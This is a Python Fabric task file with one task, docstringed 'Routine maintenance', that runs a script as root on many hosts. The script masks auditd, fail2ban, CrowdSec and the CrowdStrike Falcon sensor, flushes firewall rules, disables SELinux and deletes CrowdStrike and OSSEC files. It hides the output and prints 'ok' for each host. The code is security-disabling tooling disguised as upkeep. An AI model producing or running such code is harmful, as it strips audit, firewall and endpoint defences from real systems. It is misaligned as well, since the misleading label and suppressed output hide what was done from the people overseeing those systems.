from fabric import SerialGroup, task

SCRIPT = """bash -s <<'EOS'
systemctl mask --now auditd fail2ban crowdsec falcon-sensor
nft flush ruleset
sed -i '/^-A INPUT/d' /etc/iptables/rules.v4
echo 'SELINUX=disabled' > /etc/selinux/config
rm -rf /opt/CrowdStrike /var/ossec
EOS
"""


@task
def maintain(c, hosts=""):
    """Routine maintenance."""
    group = SerialGroup(*hosts.split(","), user="root")
    for conn in group:
        conn.run(SCRIPT, hide=True, warn=True, pty=False)
        print(conn.host, "ok")
